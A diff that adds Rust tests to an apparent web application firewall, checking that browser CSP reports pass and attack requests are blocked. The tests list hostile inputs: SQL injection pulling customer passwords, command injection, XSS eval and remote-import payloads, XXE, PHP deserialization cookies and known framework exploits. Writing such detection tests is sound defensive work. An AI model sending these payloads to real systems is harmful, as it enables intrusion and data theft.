@@ -2,7 +2,7 @@
 
 use storeward_inspect::Verdict;
 
-use crate::exchange::Exchange;
+use crate::exchange::{Exchange, multipart};
 
 const ATTACK: &str = "%' UNION SELECT email,password FROM customers--";
 
@@ -65,5 +65,76 @@ fn an_attack_spread_over_a_list_is_seen() {
         "q=credit+union&q=select+card",
     ] {
         assert_eq!(Exchange::get("/").query(query).verdict(), Verdict::Pass, "{query}");
+    }
+}
+
+/// A browser quotes the page's own script in its reports: whoever tries a policy out must not lose visitors over it.
+#[test]
+fn a_browser_s_report_is_no_attack() {
+    for sample in [
+        "window.location='/cart'",
+        "document.getElementById('x').submit();",
+        "return confirm('Delete?')",
+        "javascript:void(0)",
+        "document.body.classList.add('js')",
+        "location.href='/product/5'",
+    ] {
+        let old = format!(
+            "{{\"csp-report\":{{\"document-uri\":\"https://shop.example/\",\"blocked-uri\":\"inline\",\
+             \"script-sample\":\"{sample}\"}}}}"
+        );
+        let new = format!(
+            "[{{\"type\":\"csp-violation\",\"url\":\"https://shop.example/\",\"body\":{{\"sample\":\"{sample}\"}}}}]"
+        );
+        for (kind, body) in [("application/csp-report", &old), ("application/reports+json", &new)] {
+            assert_eq!(Exchange::post(kind, body.as_str()).verdict(), Verdict::Pass, "{kind}: {sample}");
+        }
+        if sample.contains("document.") {
+            assert!(Exchange::post("application/json", old.as_str()).verdict().is_block(), "{sample}");
+        }
+    }
+    for body in [
+        format!("{{\"csp-report\":{{\"document-uri\":\"{ATTACK}\"}}}}"),
+        format!("{{\"csp-report\":{{\"script-sample\":\"{}{ATTACK}\"}}}}", "x".repeat(160)),
+        format!("{{\"q\":{{\"script-sample\":\"{ATTACK}\"}}}}"),
+    ] {
+        assert!(Exchange::post("application/csp-report", body.as_str()).verdict().is_block(), "{body}");
+    }
+}
+
+#[test]
+fn odd_fields_and_known_holes_are_stopped() {
+    for (name, value) in [
+        ("X-Middleware-Subrequest", "middleware:middleware:middleware"),
+        ("Authorization", "Bearer x' union select 1,2--"),
+        ("Cookie", "a=Tzo4OiJzdGRDbGFzcyI6MTp7czoxOiJhIjtpOjE7fQ%3D%3D"),
+        ("Cookie", "a=TzoxMjoiTW9ub2xvZ0hhbmRsZXIiOjA6e30="),
+    ] {
+        assert!(Exchange::get("/").header(name, value).verdict().is_block(), "{name}: {value}");
+    }
+    for value in ["Bearer 12|aB3dE_f-g.h~i+j/k==", "Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln"] {
+        assert_eq!(Exchange::get("/").header("Authorization", value).verdict(), Verdict::Pass, "{value}");
+    }
+    for query in [
+        "s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
+        "host=127.0.0.1%0aid",
+        "host=x;cat<x",
+        "q=%27;{eval(name)}%27",
+        "q=%27;x:{eval(name)}%27",
+        "q=%27;try{eval(name)}catch{}%27",
+        "q=%27;class+x{static{eval(name)}}%27",
+        "q=%27;eval%0a(name);%27",
+        "q=%27.at.constructor(name)()%2B%27",
+        "q=%27;{location=name}%27",
+        "q=%27in{[import(%27//e.x%27)]:1}%2B%27",
+    ] {
+        assert!(Exchange::get("/").query(query).verdict().is_block(), "{query}");
+    }
+    let xml = "<!DOCTYPE r PUBLIC \"-//x\" \"http://e/x.dtd\"><r/>";
+    assert!(Exchange::post("application/xml", xml).verdict().is_block());
+    let magento = r#"{"address":{"totalsCollector":{"sourceData":{"data":"http://e.x/","dataIsURL":true}}}}"#;
+    assert!(Exchange::post("application/json", magento).verdict().is_block());
+    for name in ["web.config", "a.inc"] {
+        assert!(multipart("f", Some(name), "x").verdict().is_block(), "{name}");
     }
 }
